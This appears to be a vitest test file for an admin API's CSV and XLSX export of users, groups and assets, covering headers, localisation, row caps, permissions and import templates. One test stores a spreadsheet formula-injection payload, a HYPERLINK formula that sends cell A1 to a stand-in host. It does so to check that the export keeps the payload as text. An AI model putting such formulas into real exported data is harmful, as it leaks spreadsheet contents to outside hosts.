import { read as parse } from 'xlsx';
import { describe, expect, it } from 'vitest';
import { admin, at, DEFAULT_ORG, freshWorlds, list, pluck, world } from '../world.ts';
import { FORMATS, MESSAGE, labels, rowsOf, upload } from './spreadsheets.ts';

freshWorlds();

describe('an exported list', () => {
  it('is CSV with a byte order mark, named after model and time of the request', async () => {
    const answer = await admin.get('users/groups/?format=csv');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe(
      'attachment; filename="usergroup_2026-11-21_16-00-00.csv"',
    );
    expect([...answer.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(answer.text.endsWith('\r\n')).toBe(true);
    admin.headers = { ...admin.headers, 'x-tz': 'Europe/Berlin' };
    const elsewhere = await admin.get('users/groups/?format=csv');
    expect(elsewhere.headers['content-disposition']).toContain('usergroup_2026-11-21_09-00-00.csv');
  });

  it('is a workbook of texts', async () => {
    const answer = await admin.get('users/groups/?format=xlsx');
    expect(answer.headers['content-type']).toBe('application/xlsx; charset=utf-8');
    expect(answer.headers['content-disposition']).toContain('.xlsx"');
    expect(rowsOf(answer)).toEqual(rowsOf(await admin.get('users/groups/?format=csv')));
  });

  it.each(FORMATS)(
    'keeps what spreadsheets take for formulas, and reads it back: %s',
    async (format) => {
      const name = '=HYPERLINK("http://elsewhere.example/?"&A1,"x")';
      const comment = '@SUM(1+1)';
      await admin.post('users/groups/', { name, comment });
      const exported = await admin.get(`users/groups/?format=${format}&search=HYPERLINK`);
      const [header = [], row = []] = rowsOf(exported);
      expect(row[header.indexOf('*Name')]).toBe(name);
      const read = await upload('POST', 'users/groups/render-to-json/', exported.bytes, format);
      expect(at(read.body, 'data', 0)).toMatchObject({ name, comment });
      if (format === 'csv') return;
      const book = parse(exported.bytes, { type: 'buffer' });
      const cells = Object.values(book.Sheets[book.SheetNames[0] ?? ''] ?? {});
      expect(cells.filter((cell) => at(cell, 'f') !== undefined)).toEqual([]);
    },
  );

  it.each([
    ['text/csv', 'text/csv; charset=utf-8'],
    ['application/xlsx', 'application/xlsx; charset=utf-8'],
    ['application/json, text/csv;q=0.5, */*', 'application/json'],
    ['text/html, */*;q=0.8', 'application/json'],
  ])('answers Accept: %s with %s', async (accept, type) => {
    admin.headers = { ...admin.headers, accept };
    expect((await admin.get('users/users/?limit=1')).headers['content-type']).toBe(type);
  });

  it('has what can be read as columns, starred where required, without the organization id', async () => {
    for (const path of ['users/users/', 'users/groups/', 'assets/assets/']) {
      const readable = await labels(path, (facts) => at(facts, 'write_only') === false);
      const [header] = rowsOf(await admin.get(`${path}?format=csv&limit=1`));
      expect(header).toEqual(readable.map(({ title }) => title));
    }
  });

  it('has its titles in the language of the request', async () => {
    const chinese = await world.as('admin', 'zh');
    const [header] = rowsOf(await chinese.get('users/groups/?format=csv'));
    const readable = await labels('users/groups/', () => true, chinese);
    expect(header).toEqual(readable.map(({ title }) => title));
    expect(header).not.toEqual(rowsOf(await admin.get('users/groups/?format=csv'))[0]);
  });

  it('writes values as Python does: lists in single quotes, True, nothing for what is empty', async () => {
    const asset = { hostname: "o'hara", ip: '10.9.9.9', platform: 'Linux', cpu_count: 0 };
    const protocols = ['ssh/22', 'telnet/23'];
    await admin.post('assets/assets/', { ...asset, protocols, comment: 'a, "b"\nc' });
    const answer = await admin.get("assets/assets/?format=csv&search=o'hara");
    expect(answer.text).toContain(`"['ssh/22', 'telnet/23']",True,`);
    expect(answer.text).toContain(`"a, ""b""\nc"`);
    const [header = [], row = []] = rowsOf(answer);
    expect(row[header.indexOf('Labels')]).toBe('');
    expect(row).not.toContain('0');
    expect(row).not.toContain('None');
  });

  it('holds what the query chooses: search, filters, chosen rows, a page', async () => {
    const hostnames = async (query: string) =>
      rowsOf(await admin.get(`assets/assets/?format=csv&${query}`))
        .slice(1)
        .map((row) => row[1]);
    const assets = list((await admin.get('assets/assets/?order=hostname')).body);
    expect(await hostnames('order=hostname')).toEqual(pluck(assets, 'hostname'));
    expect(await hostnames('order=hostname&limit=2&offset=1')).toEqual(
      pluck(assets.slice(1, 3), 'hostname'),
    );
    expect(await hostnames(`hostname=${at(assets[3], 'hostname')}`)).toEqual([
      at(assets[3], 'hostname'),
    ]);
    const chosen = { resources: pluck(assets.slice(0, 2), 'id') };
    const spm = at((await admin.post('common/resources/cache/', chosen)).body, 'spm');
    expect(await hostnames(`order=hostname&spm=${spm}`)).toEqual(
      pluck(assets.slice(0, 2), 'hostname'),
    );
    expect(await hostnames('spm=unknown')).toEqual([]);
  });

  it('ends after 10,000 rows, whatever the limit says', async () => {
    world.sandbox.database.run(
      `WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10050)
       INSERT INTO r_users_usergroup (id, name, org_id) SELECT 'g' || i, 'many' || i, ? FROM n`,
      [DEFAULT_ORG],
    );
    for (const query of ['', '&limit=20000', '&offset=9000']) {
      const answer = await admin.get(`users/groups/?format=csv${query}`);
      expect(answer.text.trimEnd().split('\r\n')).toHaveLength(10_001);
    }
  });

  it('needs the right to view, and says so as JSON under its own type', async () => {
    const alice = await world.as('alice');
    const answer = await alice.get('users/users/?format=csv');
    expect(answer.status).toBe(403);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBeUndefined();
    expect(JSON.parse(answer.text)).toEqual({ detail: MESSAGE, code: 'permission_denied' });
    const filter = await admin.get('users/users/?format=xlsx&id=bad');
    expect([filter.status, JSON.parse(filter.text)]).toEqual([400, { id: [MESSAGE] }]);
  });

  it('exists in no other format', async () => {
    const unknown = await admin.get('users/users/?format=pdf');
    expect([unknown.status, unknown.body]).toEqual([404, { detail: MESSAGE, code: 'not_found' }]);
    admin.headers = { ...admin.headers, accept: 'image/png' };
    const unacceptable = await admin.get('users/users/');
    expect([unacceptable.status, at(unacceptable.body, 'code')]).toEqual([406, 'not_acceptable']);
  });
});

describe('a template', () => {
  it('for imports has what can be written, without ids, and one example', async () => {
    const writable = await labels('assets/assets/', (facts) => at(facts, 'read_only') === false);
    const [header, ...rows] = rowsOf(await admin.get('assets/assets/?format=csv&template=import'));
    const titles = writable.filter(({ name }) => name !== 'id').map(({ title }) => title);
    expect(header).toEqual(titles);
    expect(rows).toHaveLength(1);
  });

  it('for updates has the id as well, write-only columns empty, and all rows', async () => {
    const writable = await labels('users/users/', (facts) => at(facts, 'read_only') === false);
    const answer = await admin.get('users/users/?format=csv&template=update');
    const [header = [], ...rows] = rowsOf(answer);
    expect(header).toEqual(writable.map(({ title }) => title));
    expect(rows).toHaveLength(list((await admin.get('users/users/')).body).length);
    const password = writable.findIndex(({ name }) => name === 'password');
    expect(new Set(rows.map((row) => row[password]))).toEqual(new Set(['']));
  });

  it('has no row where there is no record', async () => {
    const answer = await admin.get('users/groups/?format=xlsx&template=import&search=nosuchgroup');
    expect(rowsOf(answer)).toHaveLength(1);
  });
});
